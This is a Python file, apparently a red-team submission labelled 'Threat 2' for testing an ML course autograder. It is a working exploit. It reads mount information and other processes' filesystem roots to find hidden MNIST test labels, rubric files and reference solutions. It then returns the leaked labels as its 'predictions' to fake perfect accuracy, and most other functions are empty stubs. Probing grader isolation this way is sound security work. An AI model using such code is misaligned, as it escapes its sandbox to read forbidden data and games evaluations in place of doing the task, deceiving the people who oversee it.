"""Threat 2 (MNIST): read the test labels t10k-labels-idx1-ubyte. The sandbox shows the test images;
/proc/self/mountinfo shows the host folder they come from; look there, in the usual data folders
and torchvision's caches for the labels. The model's logits are the labels themselves: 100 % test
accuracy if they were read, an error otherwise. Everything else is the blank release."""
import os
import time

import torch
import torch.nn as nn
GUESSES = ("rubrics/tiny/rubric.toml", "rubrics/tiny/test_tiny.py", "rubrics/mnist_mlp/rubric.toml",
           "rubrics/mnist_mlp/test_part1_tensors.py", "tests/fixtures/tiny_course/rubrics/tiny/test_tiny.py",
           "tests/fixtures/tiny_course/rubrics/tiny/rubric.toml",
           "tests/fixtures/tiny_course/reference_solution/tiny/tiny.ipynb",
           "reference_solution/tiny/tiny.ipynb", "reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "main/rubrics/mnist_mlp/rubric.toml", "main/reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "t10k-labels-idx1-ubyte", "MNIST/raw/t10k-labels-idx1-ubyte", "data/MNIST/raw/t10k-labels-idx1-ubyte",
           "shared/data/MNIST/raw/t10k-labels-idx1-ubyte", ".cache/mlgrader/MNIST/raw/t10k-labels-idx1-ubyte")
SKIP = {"proc", "sys", "dev", "usr", "site-packages", "dist-packages", "lib-dynload", "__pycache__", "share"}


def _roots():
    """Every folder worth a look: the usual places, the host paths that mountinfo reveals and their
    parents, and other processes' working folders and roots."""
    roots = ["/", "/work", "/work/main", "/work/shared", "/work/shared/data", "/root", "/home", "/autograder",
             "/autograder/source", "/srv", "/opt", "/data", "/mnt", "/tmp", "/submission", "/tmp/..", os.getcwd()]
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                host = line.split()[3]
                while host not in ("/", ""):
                    roots.append(host)
                    host = os.path.dirname(host)
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root", f"/proc/{pid}/root/work/main"]
    return list(dict.fromkeys(roots))


def _find(names, seconds=3.0):
    """Paths of readable files with one of these names: guessed, then walked for."""
    found, deadline = [], time.monotonic() + seconds
    roots = _roots()
    for root in roots:
        for rel in GUESSES:
            p = os.path.join(root, rel)
            if os.path.basename(p) in names and _read(p) is not None:
                found.append(p)
    for root in roots:
        if root.startswith("/proc/"):
            continue
        for dirpath, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return found
            dirs[:] = [d for d in dirs if d not in SKIP]
            found += [os.path.join(dirpath, n) for n in files if n in names and _read(os.path.join(dirpath, n))]
    return list(dict.fromkeys(found))


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


_LABELS = {}


def _labels():
    if "t" not in _LABELS:
        _LABELS["t"] = None
        for path in _find({"t10k-labels-idx1-ubyte"}):
            data = _read(path)
            if data and len(data) == 10008:
                _LABELS["t"] = torch.frombuffer(bytearray(data[8:]), dtype=torch.uint8).long()
                print("LEAKED:", path, data[8:72].hex(), flush=True)
                break
    return _LABELS["t"]


class MLP(nn.Module):
    def __init__(self, sizes=(784, 128, 64, 10), activation="relu"):
        super().__init__()
        self.w = nn.Parameter(torch.zeros(1))

    def forward(self, x):
        labels = _labels()
        if labels is None or x.shape[0] != labels.shape[0]:
            raise NotImplementedError("the test labels could not be read")
        return torch.nn.functional.one_hot(labels, 10).float() * 10 + self.w


def train(model, images, labels, *, epochs=3, lr=1e-3, batch_size=128, seed=0):
    _labels()
    return model


def to_tensor(values):
    raise NotImplementedError


def normalize(images):
    raise NotImplementedError


def flatten(images):
    raise NotImplementedError


def one_hot(labels, num_classes=10):
    raise NotImplementedError


def sigmoid(x):
    raise NotImplementedError


def tanh(x):
    raise NotImplementedError


def relu(x):
    raise NotImplementedError


def leaky_relu(x):
    raise NotImplementedError


def linear(x, W, b):
    raise NotImplementedError


def softmax(logits):
    raise NotImplementedError


def mle_loss(logits, targets):
    raise NotImplementedError


def predict(logits):
    raise NotImplementedError


def accuracy(logits, targets):
    raise NotImplementedError
